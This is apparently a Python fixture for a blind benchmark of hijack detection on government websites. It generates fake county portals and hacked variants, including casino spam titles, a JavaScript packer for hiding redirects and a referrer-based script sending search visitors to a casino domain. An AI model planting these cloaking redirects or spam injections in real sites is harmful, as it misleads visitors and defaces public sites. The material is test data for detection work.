"""Blind evaluation of hijack detection: 20 homepages, written before any scan.

Twelve are hacked the way compromised Chinese, English, Indonesian, Thai and
Vietnamese government and school sites were in 2024-2026 (spam titles, packed
referrer redirects, hidden link blocks, footer SEO spam, casino landings, whole-site
redirects, crypto airdrops, defacements); eight are honest pages that talk about
lotteries, gambling, casinos, drugs, games or "slots" for good reasons and must not
be called hijacked.

Each site is a dict: ``host``, ``name``, ``pages`` (path -> HTML, "/" the homepage),
``article`` (the page served for any other path of the host: real sites answer their
article URLs), ``extra_hosts`` (host -> HTML of other sites its links or redirects
reach) and ``truth``.
"""

from __future__ import annotations

import random
from datetime import UTC, date, datetime, timedelta
from typing import Any

NOW = datetime(2026, 3, 16, 10, 0, tzinfo=UTC)
TODAY = date(2026, 3, 16)

HIJACK_CODES = ("spam_content", "hidden_links", "offsite_redirect", "cloaking")
ZOMBIE_CODES = ("placeholder_page", "default_server_page", "parked_domain")
NOT_HIJACKED = (*HIJACK_CODES, *ZOMBIE_CODES)


def ago(n: int) -> date:
    return TODAY - timedelta(days=n)


def ymd(n: int, sep: str = "-") -> str:
    d = ago(n)
    return f"{d.year}{sep}{d.month:02d}{sep}{d.day:02d}"


def md(n: int) -> str:
    d = ago(n)
    return f"{d.month:02d}-{d.day:02d}"


def cn_date(n: int) -> str:
    d = ago(n)
    return f"{d.year}年{d.month:02d}月{d.day:02d}日"


EN_MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
             "September", "October", "November", "December"]
ID_MONTHS = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus",
             "September", "Oktober", "November", "Desember"]
TH_MONTHS = ["มกราคม", "กุมภาพันธ์", "มีนาคม", "เมษายน", "พฤษภาคม", "มิถุนายน", "กรกฎาคม",
             "สิงหาคม", "กันยายน", "ตุลาคม", "พฤศจิกายน", "ธันวาคม"]


def uk_date(n: int) -> str:
    d = ago(n)
    return f"{d.day} {EN_MONTHS[d.month - 1]} {d.year}"


def id_date(n: int) -> str:
    d = ago(n)
    return f"{d.day} {ID_MONTHS[d.month - 1]} {d.year}"


def vn_date(n: int) -> str:
    d = ago(n)
    return f"{d.day:02d}/{d.month:02d}/{d.year}"


def th_date(n: int) -> str:  # Thai sites write the Buddhist year (2569 = 2026)
    d = ago(n)
    return f"{d.day} {TH_MONTHS[d.month - 1]} {d.year + 543}"


def trs_url(col: str, n: int, i: int) -> str:
    d = ago(n)
    return f"/{col}/{d.year}{d.month:02d}/t{d.year}{d.month:02d}{d.day:02d}_{4400000 + i * 37}.html"


def hanweb_url(colid: int, n: int, i: int) -> str:
    d = ago(n)
    return f"/art/{d.year}/{d.month}/{d.day}/art_{colid}_{98000 + i * 11}.html"


def wp_url(n: int, slug: str) -> str:
    d = ago(n)
    return f"/{d.year}/{d.month:02d}/{d.day:02d}/{slug}/"


# --------------------------------------------------------------------------- chrome

ZH_CSS = """
*{margin:0;padding:0;box-sizing:border-box}body{font:14px/1.6 "Microsoft YaHei","微软雅黑",SimSun,Arial;color:#333;background:#f3f5f8}
a{color:#333;text-decoration:none}a:hover{color:%(c)s}ul,li{list-style:none}img{border:0;vertical-align:middle}
.w1200{width:1200px;margin:0 auto}.clearfix:after{content:"";display:block;clear:both}.fl{float:left}.fr{float:right}
.topbar{height:36px;line-height:36px;background:#f1f1f1;border-bottom:1px solid #e2e2e2;font-size:13px;color:#666}
.topbar a{margin-left:14px;color:#666}.topbar .today{color:#888}
.header{height:160px;background:url(/images/head_bg.jpg) no-repeat center top %(c)s}.header .logo{padding-top:38px}
.header .search{margin-top:60px;width:340px;height:38px;background:#fff;border-radius:19px;overflow:hidden}
.header .search input.txt{width:270px;height:38px;border:0;padding-left:16px;outline:none}
.header .search input.btn{width:70px;height:38px;border:0;background:%(c2)s;color:#fff;cursor:pointer}
.nav{height:52px;background:%(c2)s}.nav>ul>li{float:left;position:relative;width:133px;text-align:center}
.nav>ul>li>a{display:block;height:52px;line-height:52px;color:#fff;font-size:18px}
.nav>ul>li:hover>a,.nav>ul>li.on>a{background:%(c3)s}
.nav .sub{display:none;position:absolute;left:0;top:52px;width:133px;background:#fff;z-index:99;box-shadow:0 4px 10px rgba(0,0,0,.15)}
.nav>ul>li:hover .sub{display:block}.nav .sub a{display:block;height:38px;line-height:38px;border-bottom:1px dashed #eee}
.notice-roll{height:44px;line-height:44px;background:#fff;margin-top:14px;padding:0 16px}
.banner{height:380px;overflow:hidden;position:relative}.banner .bd li{height:380px}.banner .hd{position:absolute;right:20px;bottom:14px}
.box{background:#fff;margin-top:16px;padding:16px 20px}.box .tit{height:42px;border-bottom:2px solid #e5e5e5;position:relative}
.box .tit h3,.box .tit span.on{float:left;height:42px;line-height:40px;font-size:20px;color:%(c)s;border-bottom:2px solid %(c)s;margin-bottom:-2px}
.box .tit .more{position:absolute;right:0;top:10px;font-size:13px;color:#999}
.tab-hd li{float:left;margin-right:26px;font-size:19px;height:42px;line-height:40px;cursor:pointer}
.tab-hd li.on{color:%(c)s;border-bottom:2px solid %(c)s}.tab-bd .panel{display:none}.tab-bd .panel.on{display:block}
.list li{height:38px;line-height:38px;padding-left:14px;background:url(/images/dot.png) no-repeat 0 center;overflow:hidden}
.list li a{float:left;width:80%%;white-space:nowrap;overflow:hidden;text-overflow:ellipsis}.list li span{float:right;color:#999}
.focus-news{width:560px}.focus-news h2{font-size:22px;text-align:center;padding:10px 0}.focus-news h2 a{color:#c00}
.fw-icons li{float:left;width:16.66%%;text-align:center;padding:18px 0}.fw-icons li img{width:54px;height:54px;display:block;margin:0 auto 8px}
.zt-banner li{float:left;width:282px;margin-right:24px}.zt-banner li img{width:282px;height:90px}
.links{background:#fff;margin-top:16px;padding:14px 20px}.links select{width:220px;height:34px;margin-right:18px;border:1px solid #ddd}
.footer{margin-top:24px;background:%(c2)s;color:#dfe7f3;padding:26px 0;font-size:13px;line-height:2}.footer a{color:#dfe7f3}
.footer .dzjg{float:left;margin:6px 30px 0 100px}.footer .jiucuo{float:left;margin:12px 30px 0 0}
.ewm-pop{display:none;position:absolute;top:36px;right:0;background:#fff;padding:10px;box-shadow:0 2px 8px rgba(0,0,0,.2)}
@media screen and (max-width:1200px){.w1200{width:100%%}.nav>ul>li{width:11%%}}
"""

BAIDU_TONGJI = """<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?%s";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>"""

CONAC = """<span id="_ideConac"></span><script type="text/javascript">document.write(unescape("%%3Cspan id='_ideConac' %%3E%%3C/span%%3E%%3Cscript src='https://dcs.conac.cn/js/%s/000/0000/%s/CA%s0001.js' type='text/javascript'%%3E%%3C/script%%3E"));</script>"""

JIUCUO = """<script id="_jiucuo_" sitecode='%s' src='https://zfwzgl.www.gov.cn/exposure/jiucuo.js'></script>"""

CNZZ = """<script type="text/javascript">var cnzz_protocol = (("https:" == document.location.protocol) ? "https://" : "http://");document.write(unescape("%%3Cspan id='cnzz_stat_icon_%s'%%3E%%3C/span%%3E%%3Cscript src='" + cnzz_protocol + "s4.cnzz.com/z_stat.php%%3Fid%%3D%s%%26show%%3Dpic' type='text/javascript'%%3E%%3C/script%%3E"));</script>"""

SLIDER_JS = """<script type="text/javascript">
jQuery(".banner").slide({mainCell:".bd ul",titCell:".hd ul",effect:"fold",autoPlay:true,interTime:4500,autoPage:"<li></li>"});
jQuery(".tab-box").slide({titCell:".tab-hd li",mainCell:".tab-bd",trigger:"mouseover",delayTime:0});
jQuery(".notice-roll .bd").slide({mainCell:"ul",autoPlay:true,effect:"topMarquee",vis:1,interTime:50});
$(function(){var d=new Date(),w=["日","一","二","三","四","五","六"];
$("#today").html(d.getFullYear()+"年"+(d.getMonth()+1)+"月"+d.getDate()+"日 星期"+w[d.getDay()]);
$(".wx-btn").hover(function(){$(".ewm-pop").show()},function(){$(".ewm-pop").hide()});
$("#fontBig").click(function(){$("body").css("font-size","16px")});});
</script>"""

ZH_NAV = [
    ("首页", "/", []),
    ("政务公开", "/zwgk/", ["政府信息公开指南", "政府信息公开制度", "法定主动公开内容", "政府信息公开年报", "政策文件", "政策解读", "财政预决算", "人事信息", "规划计划", "统计信息"]),
    ("政务服务", "/zwfw/", ["个人办事", "法人办事", "部门服务", "便民服务", "办事指南", "表格下载", "好差评", "一件事一次办"]),
    ("政民互动", "/zmhd/", ["县长信箱", "网上咨询", "意见征集", "在线访谈", "12345热线", "常见问题", "调查征集"]),
    ("走进{place}", "/zjxq/", ["{place}概况", "历史沿革", "行政区划", "自然资源", "人口民族", "旅游景点", "特色产业"]),
    ("专题专栏", "/ztzl/", ["学习贯彻党的二十届四中全会精神", "优化营商环境", "乡村振兴", "安全生产", "扫黑除恶", "文明城市创建", "防范非法集资"]),
    ("数据发布", "/sjfb/", ["统计公报", "统计数据", "数据解读", "数据开放"]),
]

ZH_NEWS = [
    "{place}召开2026年经济工作会议",
    "{place}部署春季农业生产和森林防火工作",
    "{place}开展“学雷锋”志愿服务月系列活动",
    "县委理论学习中心组举行2026年第2次集中学习",
    "{place}召开全县安全生产工作电视电话会议",
    "{place}举办2026年“春风行动”暨就业援助月专场招聘会",
    "{place}扎实推进高标准农田建设项目",
    "县长主持召开县政府第十二次常务会议",
    "{place}开展节后复工复产安全隐患大排查",
    "全县优化营商环境工作推进会召开",
    "{place}召开2026年度民生实事项目推进会",
    "{place}启动2026年度城乡居民医保集中参保工作",
    "{place}举行重点项目集中签约仪式",
    "省调研组来{place}调研基层治理工作",
    "{place}开展“三八”国际妇女节系列庆祝活动",
    "{place}召开耕地保护和粮食安全责任制考核工作会",
    "{place}2026年首批重点项目集中开工",
    "{place}召开河湖长制工作会议",
]
ZH_NOTICES = [
    "关于2026年度{place}事业单位公开招聘工作人员的公告",
    "关于开展2026年春季造林绿化工作的通知",
    "{place}2026年第一批次城镇建设用地征收土地预公告",
    "关于公布2026年度行政事业性收费目录清单的通知",
    "{place}人民政府2025年政府信息公开工作年度报告",
    "关于做好2026年清明节期间文明祭扫工作的通告",
    "{place}2026年3月政府采购意向公开",
    "关于征集2026年县政府民生实事项目意见建议的公告",
    "关于2026年春季学期义务教育阶段学校招生工作的通知",
    "关于{place}城区部分路段临时交通管制的通告",
]
ZH_POLICY = [
    "{place}人民政府关于印发《2026年政府工作要点》的通知",
    "{place}人民政府办公室关于印发{place}防汛抗旱应急预案的通知",
    "关于进一步加强农村饮用水安全保障工作的实施意见",
    "{place}关于促进民营经济高质量发展的若干措施",
    "《{place}城乡居民最低生活保障实施办法》政策解读",
    "{place}人民政府办公室关于加强城市管理工作的通知",
    "一图读懂《{place}2026年政府工作报告》",
    "{place}关于做好2026年稳就业工作的实施方案",
]


def pick(rng: random.Random, pool: list[str], k: int, place: str) -> list[str]:
    return [t.format(place=place) for t in rng.sample(pool, k)]


def zh_items(titles: list[str], days: list[int], url: Any, fmt: str = "ymd") -> str:
    out = []
    for i, (t, n) in enumerate(zip(titles, days, strict=False)):
        ds = {"ymd": ymd(n), "md": f"[{md(n)}]", "slash": ymd(n, "/"), "cn": cn_date(n)}[fmt]
        out.append(f'<li><a href="{url(n, i)}" target="_blank" title="{t}">{t}</a><span>{ds}</span></li>')
    return "\n".join(out)


def zh_portal(
    *,
    seed: int,
    name: str,
    place: str,
    host: str,
    color: tuple[str, str, str] = ("#1160b8", "#0b4f9c", "#083f7d"),
    title: str | None = None,
    keywords: str | None = None,
    description: str | None = None,
    head_top: str = "",
    head_end: str = "",
    body_top: str = "",
    before_footer: str = "",
    footer_end: str = "",
    url_style: str = "trs",
    date_fmt: str = "ymd",
    news_days: tuple[int, ...] = (1, 2, 3, 5, 6, 8, 9, 12),
    notice_days: tuple[int, ...] = (2, 4, 9, 15, 22, 30, 41, 55),
    policy_days: tuple[int, ...] = (6, 13, 27, 48, 70, 96),
    sitecode: str = "3607000012",
) -> str:
    """A county government portal (TRS WCM or Hanweb markup)."""
    rng = random.Random(seed)
    c, c2, c3 = color
    if url_style == "trs":
        news_url = lambda n, i: trs_url("xwzx/zwyw", n, i)  # noqa: E731
        bm_url = lambda n, i: trs_url("xwzx/bmdt", n, 20 + i)  # noqa: E731
        xz_url = lambda n, i: trs_url("xwzx/xzdt", n, 40 + i)  # noqa: E731
        tz_url = lambda n, i: trs_url("zwgk/tzgg", n, 60 + i)  # noqa: E731
        zc_url = lambda n, i: trs_url("zwgk/zcwj", n, 80 + i)  # noqa: E731
        more = {"zwyw": "/xwzx/zwyw/", "bmdt": "/xwzx/bmdt/", "xzdt": "/xwzx/xzdt/", "tzgg": "/zwgk/tzgg/", "zcwj": "/zwgk/zcwj/"}
    else:
        news_url = lambda n, i: hanweb_url(1229, n, i)  # noqa: E731
        bm_url = lambda n, i: hanweb_url(1230, n, 20 + i)  # noqa: E731
        xz_url = lambda n, i: hanweb_url(1231, n, 40 + i)  # noqa: E731
        tz_url = lambda n, i: hanweb_url(1245, n, 60 + i)  # noqa: E731
        zc_url = lambda n, i: hanweb_url(1251, n, 80 + i)  # noqa: E731
        more = {"zwyw": "/col/col1229/index.html", "bmdt": "/col/col1230/index.html", "xzdt": "/col/col1231/index.html",
                "tzgg": "/col/col1245/index.html", "zcwj": "/col/col1251/index.html"}
    nav = []
    for label, href, subs in ZH_NAV:
        label = label.format(place=place)
        sub = "".join(f'<a href="{href}{j:02d}/">{s.format(place=place)}</a>' for j, s in enumerate(subs, 1))
        sub_html = f'<div class="sub">{sub}</div>' if subs else ""
        on = ' class="on"' if href == "/" else ""
        nav.append(f'<li{on}><a href="{href}">{label}</a>{sub_html}</li>')
    news = pick(rng, ZH_NEWS, len(news_days), place)
    bm = pick(rng, ZH_NEWS, 7, place)
    xz = pick(rng, ZH_NEWS, 7, place)
    notices = pick(rng, ZH_NOTICES, len(notice_days), place)
    policies = pick(rng, ZH_POLICY, len(policy_days), place)
    icons = ["社保查询", "公积金查询", "不动产登记", "户籍办理", "医保服务", "教育入学", "婚姻登记", "企业开办", "招标投标", "12345热线", "法律援助", "出入境"]
    zt = ["学习贯彻党的二十届四中全会精神", "优化营商环境 我们在行动", "守护舌尖上的安全", "防范和处置非法集资"]
    title = title or f"{name}"
    keywords = keywords if keywords is not None else f"{name},{place},政务公开,政务服务,政民互动"
    description = description if description is not None else f"{name}门户网站是{place}人民政府在互联网上发布政务信息、提供在线服务、与公众互动交流的官方平台。"
    slide = "".join(
        f'<li><a href="{news_url(n, i)}" target="_blank"><img src="/images/banner/{20260300 + i}.jpg" alt="{t}"/><p>{t}</p></a></li>'
        for i, (t, n) in enumerate(zip(news[:4], news_days[:4], strict=False))
    )
    roll = "".join(f'<li><a href="{tz_url(n, i)}">{t}</a></li>' for i, (t, n) in enumerate(zip(notices[:4], notice_days[:4], strict=False)))
    friend_links = [
        ("国务院部门网站", [("外交部", "https://www.mfa.gov.cn/"), ("国家发展和改革委员会", "https://www.ndrc.gov.cn/"), ("教育部", "http://www.moe.gov.cn/"), ("公安部", "https://www.mps.gov.cn/")]),
        ("省级政府网站", [("北京市人民政府", "https://www.beijing.gov.cn/"), ("江西省人民政府", "http://www.jiangxi.gov.cn/"), ("湖南省人民政府", "http://www.hunan.gov.cn/")]),
        ("县直部门网站", [(f"{place}教育体育局", f"http://{host}/bm/jtj/"), (f"{place}卫生健康委员会", f"http://{host}/bm/wjw/"), (f"{place}自然资源局", f"http://{host}/bm/zrzyj/")]),
        ("乡镇网站", [("城关镇", f"http://{host}/xz/cgz/"), ("东岭乡", f"http://{host}/xz/dlx/"), ("石桥镇", f"http://{host}/xz/sqz/")]),
    ]
    selects = "".join(
        f'<select onchange="if(this.value!=\'\')window.open(this.value)"><option value="">{g}</option>'
        + "".join(f'<option value="{u}">{n}</option>' for n, u in opts) + "</select>"
        for g, opts in friend_links
    )
    return f"""{head_top}<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge,chrome=1">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>{title}</title>
<meta name="keywords" content="{keywords}">
<meta name="description" content="{description}">
<meta name="SiteName" content="{name}">
<meta name="SiteDomain" content="{host}">
<meta name="SiteIDCode" content="{sitecode}">
<meta name="ColumnName" content="首页">
<meta name="ColumnType" content="首页">
<link rel="stylesheet" type="text/css" href="/css/common.css?v=20240611">
<link rel="stylesheet" type="text/css" href="/css/index.css?v=20250318">
<style type="text/css">{ZH_CSS % {"c": c, "c2": c2, "c3": c3}}</style>
<script type="text/javascript" src="/js/jquery-1.11.3.min.js"></script>
<script type="text/javascript" src="/js/jquery.SuperSlide.2.1.3.js"></script>
<script type="text/javascript" src="https://wza.{host.split('.', 1)[1]}/assist/assist.js" charset="utf-8"></script>
{head_end}
</head>
<body>
{body_top}
<div class="topbar"><div class="w1200 clearfix">
  <div class="fl"><span class="today" id="today"></span>&nbsp;&nbsp;欢迎访问{name}！</div>
  <div class="fr">
    <a href="javascript:void(0);" id="fontBig">大字版</a><a href="javascript:void(0);" onclick="aria.start()">无障碍浏览</a><a href="javascript:void(0);" class="wx-btn">微信公众号</a>
    <a href="https://www.jxzwfww.gov.cn/" target="_blank">江西政务服务网</a><a href="/sjb/">手机版</a><a href="/wzdt/">网站地图</a>
    <div class="ewm-pop"><img src="/images/wx_ewm.jpg" width="120" height="120" alt="{place}发布"/><p>扫一扫关注{place}发布</p></div>
  </div>
</div></div>
<div class="header"><div class="w1200 clearfix">
  <div class="logo fl"><a href="/"><img src="/images/logo.png" alt="{name}"/></a></div>
  <div class="search fr"><form action="/was5/web/search" method="get" target="_blank"><input type="hidden" name="channelid" value="268735"/><input class="txt" type="text" name="searchword" placeholder="请输入关键字"/><input class="btn" type="submit" value="搜索"/></form></div>
</div></div>
<div class="nav"><ul class="w1200 clearfix">{"".join(nav)}</ul></div>
<div class="w1200">
  <div class="notice-roll clearfix"><strong class="fl">通知公告：</strong><div class="bd fl"><ul>{roll}</ul></div></div>
  <div class="focus-news box"><h2><a href="{news_url(news_days[0], 0)}">{news[0]}</a></h2><p>{place}人民政府召开常务会议，传达学习全国两会精神，研究部署近期重点工作……<a href="{news_url(news_days[0], 0)}">[详细]</a></p></div>
  <div class="box clearfix">
    <div class="banner fl" style="width:560px"><div class="bd"><ul>{slide}</ul></div><div class="hd"><ul></ul></div></div>
    <div class="tab-box fr" style="width:560px">
      <div class="tab-hd clearfix"><ul><li class="on"><a href="{more["zwyw"]}">政务要闻</a></li><li><a href="{more["bmdt"]}">部门动态</a></li><li><a href="{more["xzdt"]}">乡镇动态</a></li></ul></div>
      <div class="tab-bd">
        <div class="panel on"><ul class="list">{zh_items(news, list(news_days), news_url, date_fmt)}</ul><a class="more" href="{more["zwyw"]}">更多&gt;&gt;</a></div>
        <div class="panel"><ul class="list">{zh_items(bm, [1, 3, 4, 7, 9, 11, 14], bm_url, date_fmt)}</ul><a class="more" href="{more["bmdt"]}">更多&gt;&gt;</a></div>
        <div class="panel"><ul class="list">{zh_items(xz, [2, 3, 6, 8, 10, 13, 16], xz_url, date_fmt)}</ul><a class="more" href="{more["xzdt"]}">更多&gt;&gt;</a></div>
      </div>
    </div>
  </div>
  <div class="clearfix">
    <div class="box fl" style="width:592px"><div class="tit"><h3>通知公告</h3><a class="more" href="{more["tzgg"]}">更多&gt;&gt;</a></div>
      <ul class="list">{zh_items(notices, list(notice_days), tz_url, date_fmt)}</ul></div>
    <div class="box fr" style="width:592px"><div class="tit"><h3>政策文件</h3><a class="more" href="{more["zcwj"]}">更多&gt;&gt;</a></div>
      <ul class="list">{zh_items(policies, list(policy_days), zc_url, date_fmt)}</ul></div>
  </div>
  <div class="box"><div class="tit"><h3>办事服务</h3><a class="more" href="/zwfw/">更多&gt;&gt;</a></div>
    <ul class="fw-icons clearfix">{"".join(f'<li><a href="/zwfw/{k:02d}/"><img src="/images/icon/fw{k}.png" alt=""/>{s}</a></li>' for k, s in enumerate(icons, 1))}</ul></div>
  <div class="box"><div class="tit"><h3>专题专栏</h3><a class="more" href="/ztzl/">更多&gt;&gt;</a></div>
    <ul class="zt-banner clearfix">{"".join(f'<li><a href="/ztzl/{k:02d}/"><img src="/images/zt/zt{k}.jpg" alt="{s}"/></a></li>' for k, s in enumerate(zt, 1))}</ul></div>
  <div class="box clearfix"><div class="tit"><h3>政民互动</h3></div>
    <ul class="fw-icons clearfix"><li><a href="/zmhd/xzxx/">县长信箱</a></li><li><a href="/zmhd/wszx/">网上咨询</a></li><li><a href="/zmhd/yjzj/">意见征集</a></li><li><a href="/zmhd/zxft/">在线访谈</a></li><li><a href="/zmhd/cjwt/">常见问题</a></li><li><a href="/zmhd/dczj/">调查征集</a></li></ul></div>
  <div class="links clearfix"><strong>友情链接：</strong>{selects}</div>
</div>
{before_footer}
<div class="footer"><div class="w1200 clearfix">
  <div class="dzjg">{CONAC % ("36", "60429971", "36000000060429971")}</div>
  <div class="jiucuo">{JIUCUO % sitecode}</div>
  <div class="fl">
    <p><a href="/wzdt/">网站地图</a> | <a href="/lxwm/">联系我们</a> | <a href="/wzsm/">网站声明</a> | <a href="/yszc/">隐私政策</a></p>
    <p>主办单位：{place}人民政府办公室&nbsp;&nbsp;承办单位：{place}政务服务数据管理局&nbsp;&nbsp;联系电话：0797-68{seed:02d}2311</p>
    <p>版权所有：{name}&nbsp;&nbsp;<a href="https://beian.miit.gov.cn/" target="_blank">赣ICP备0500{seed:02d}87号-1</a>&nbsp;&nbsp;<img src="/images/ga.png" alt=""/><a href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=360{seed:02d}202000115" target="_blank">赣公网安备 360{seed:02d}202000115号</a>&nbsp;&nbsp;网站标识码：{sitecode}</p>
    <p>Copyright &copy; 2013-2026 All Rights Reserved 建议使用1366×768分辨率 IE10以上浏览器</p>
  </div>
</div></div>
{SLIDER_JS}
{BAIDU_TONGJI % ("5c1a" + format(seed * 7919, "x") + "b7e94d1f2a6c8e0d3f5a7b9c1")}
{footer_end}
</body>
</html>
"""


def zh_list_page(name: str, heading: str, crumbs: str, titles_days: list[tuple[str, int]], url: Any, pages: int = 6) -> str:
    items = "\n".join(
        f'<li><a href="{url(n, i)}" target="_blank" title="{t}">{t}</a><span class="date">{ymd(n)}</span></li>'
        for i, (t, n) in enumerate(titles_days)
    )
    side = "".join(f'<li><a href="#">{s}</a></li>' for s in ["政务要闻", "部门动态", "乡镇动态", "通知公告", "政策文件", "图片新闻", "视频新闻"])
    return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{heading}-{name}</title>
<meta name="ColumnName" content="{heading}"><link rel="stylesheet" href="/css/common.css"><link rel="stylesheet" href="/css/list.css"></head>
<body><div class="header"><div class="w1200"><a href="/"><img src="/images/logo.png" alt="{name}"></a></div></div>
<div class="nav"><ul class="w1200"><li><a href="/">首页</a></li><li><a href="/zwgk/">政务公开</a></li><li><a href="/zwfw/">政务服务</a></li><li><a href="/zmhd/">政民互动</a></li></ul></div>
<div class="w1200 clearfix"><div class="position">当前位置：<a href="/">首页</a> &gt; {crumbs} &gt; {heading}</div>
<div class="left fl"><h2>{crumbs}</h2><ul class="side">{side}</ul></div>
<div class="right fr"><div class="tit"><h3>{heading}</h3></div><ul class="list">{items}</ul>
<div class="page"><script>createPageHTML({pages}, 0, "index", "html");</script>共{pages}页&nbsp;<a href="index.html">首页</a> <a href="index_1.html">下一页</a> <a href="index_{pages - 1}.html">尾页</a></div></div></div>
<div class="footer"><p>主办单位：{name}办公室 版权所有 Copyright &copy; 2026</p></div></body></html>"""


def zh_article(name: str, place: str) -> str:
    body = "".join(
        f"<p>{s}</p>"
        for s in [
            f"近日，{place}召开专题会议，传达学习上级有关会议精神，研究部署下一阶段重点工作。会议强调，要坚持稳中求进工作总基调，完整准确全面贯彻新发展理念。",
            "会议要求，各乡镇、各部门要进一步提高政治站位，压紧压实工作责任，细化工作举措，确保各项任务落地见效。",
            "会议指出，要聚焦群众急难愁盼问题，持续办好民生实事，切实增强人民群众的获得感、幸福感、安全感。",
        ]
    )
    return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{place}召开专题会议-{name}</title>
<meta name="ArticleTitle" content="{place}召开专题会议"><meta name="PubDate" content="{ymd(3)} 09:30"><meta name="ContentSource" content="{place}融媒体中心"></head>
<body><div class="header"><a href="/"><img src="/images/logo.png" alt="{name}"></a></div>
<div class="article"><h1>{place}召开专题会议</h1><div class="info">发布时间：{ymd(3)} 09:30 来源：{place}融媒体中心 浏览次数：<span id="hits">286</span></div>
<div class="content">{body}</div></div><div class="footer">版权所有：{name}</div></body></html>"""


def zh_portal_pages(name: str, place: str, seed: int, url_style: str = "trs") -> dict[str, str]:
    """Column list pages behind zh_portal's "more" links (intact on hacked sites too)."""
    rng = random.Random(seed + 1000)
    if url_style == "trs":
        cols = {"/xwzx/zwyw/": ("政务要闻", "新闻中心", "xwzx/zwyw", ZH_NEWS, [1, 2, 3, 5, 6, 8, 9, 12, 14, 16, 19, 22]),
                "/xwzx/bmdt/": ("部门动态", "新闻中心", "xwzx/bmdt", ZH_NEWS, [1, 3, 4, 7, 9, 11, 14, 17, 20, 23]),
                "/xwzx/xzdt/": ("乡镇动态", "新闻中心", "xwzx/xzdt", ZH_NEWS, [2, 3, 6, 8, 10, 13, 16, 19, 21, 25]),
                "/zwgk/tzgg/": ("通知公告", "政务公开", "zwgk/tzgg", ZH_NOTICES, [2, 4, 9, 15, 22, 30, 41, 55, 60, 72]),
                "/zwgk/zcwj/": ("政策文件", "政务公开", "zwgk/zcwj", ZH_POLICY, [6, 13, 27, 48, 70, 96, 120, 150])}
        out = {}
        for path, (heading, crumbs, col, pool, days) in cols.items():
            titles = [t.format(place=place) for t in rng.sample(pool * 2, len(days))]
            out[path] = zh_list_page(name, heading, crumbs, list(zip(titles, days, strict=False)), lambda n, i, col=col: trs_url(col, n, i))
        return out
    cols2 = {"/col/col1229/index.html": ("政务要闻", 1229, ZH_NEWS, [1, 2, 3, 5, 6, 8, 9, 12, 14, 16]),
             "/col/col1230/index.html": ("部门动态", 1230, ZH_NEWS, [1, 3, 4, 7, 9, 11, 14, 17]),
             "/col/col1231/index.html": ("乡镇动态", 1231, ZH_NEWS, [2, 3, 6, 8, 10, 13, 16, 19]),
             "/col/col1245/index.html": ("通知公告", 1245, ZH_NOTICES, [2, 4, 9, 15, 22, 30, 41, 55]),
             "/col/col1251/index.html": ("政策文件", 1251, ZH_POLICY, [6, 13, 27, 48, 70, 96])}
    out = {}
    for path, (heading, colid, pool, days) in cols2.items():
        titles = [t.format(place=place) for t in rng.sample(pool * 2, len(days))]
        out[path] = zh_list_page(name, heading, "新闻中心", list(zip(titles, days, strict=False)), lambda n, i, colid=colid: hanweb_url(colid, n, i))
    return out


def zh_truth_columns(url_style: str = "trs") -> list[dict[str, Any]]:
    return [
        {"name": "政务要闻", "type": "news", "newest": ymd(1)},
        {"name": "通知公告", "type": "notice", "newest": ymd(2)},
        {"name": "政策文件", "type": "policy", "newest": ymd(6)},
    ]


# --------------------------------------------------------------------------- packer

def _base62(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    if n < 62:
        return digits[n]
    return _base62(n // 62) + digits[n % 62]


def pack(js: str) -> str:
    """Dean Edwards' p.a.c.k.e.r (base 62), as the spam kits ship their redirects."""
    import re

    words = re.findall(r"\b\w+\b", js)
    counts: dict[str, int] = {}
    for w in words:
        counts[w] = counts.get(w, 0) + 1
    ordered = sorted(counts, key=lambda w: -counts[w])
    index = {w: _base62(i) for i, w in enumerate(ordered)}
    packed = re.sub(r"\b\w+\b", lambda m: index[m.group(0)], js)
    packed = packed.replace("\\", "\\\\").replace("'", "\\'")
    keywords = "|".join(ordered)
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};"
        "if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
        f"('{packed}',62,{len(ordered)},'{keywords}'.split('|'),0,{{}}))"
    )


# --------------------------------------------------------------------------- hacked Chinese sites

def h01_title_spam() -> dict[str, Any]:
    """Title, keywords and description replaced (as numeric character references), body intact."""
    name, place, host = "安远县人民政府", "安远县", "www.anyuan-demo.gov.cn"
    spam_title = "澳门新葡京-皇冠体育官网-太阳城集团-开元棋牌【官方入口】"
    ent = "".join(f"&#{ord(ch)};" for ch in spam_title)
    kw = "澳门新葡京,皇冠体育,太阳城,开元棋牌,澳门新葡京官网,皇冠体育app下载,太阳城集团娱乐网址"
    desc = "澳门新葡京【www.xpj8866.vip】是亚洲最具信誉的在线娱乐平台,提供皇冠体育、太阳城真人、开元棋牌、电子游艺,注册即送88元彩金。"
    html = zh_portal(seed=1, name=name, place=place, host=host, title=ent, keywords=kw, description=desc)
    return {
        "host": host, "name": name,
        "pages": {"/": html, **zh_portal_pages(name, place, 1)},
        "article": zh_article(name, place),
        "truth": {"kind": "hacked", "idea": "title/keywords/description replaced with casino brands, body intact",
                  "status": "hijacked", "passed": False, "must": ["spam_content"], "must_not": list(ZOMBIE_CODES),
                  "newest": ymd(1), "columns": zh_truth_columns()},
    }


BAIDU_REDIRECT = (
    'var ref=document.referrer;var spiders=["baidu","sogou","so.com","sm.cn","bing","toutiao"];'
    "for(var i=0;i<spiders.length;i++){if(ref.indexOf(spiders[i])>-1){"
    'setTimeout(function(){window.location.href="https://www.hg8868tiyu.vip/?channel=gov"},300);break}}'
)


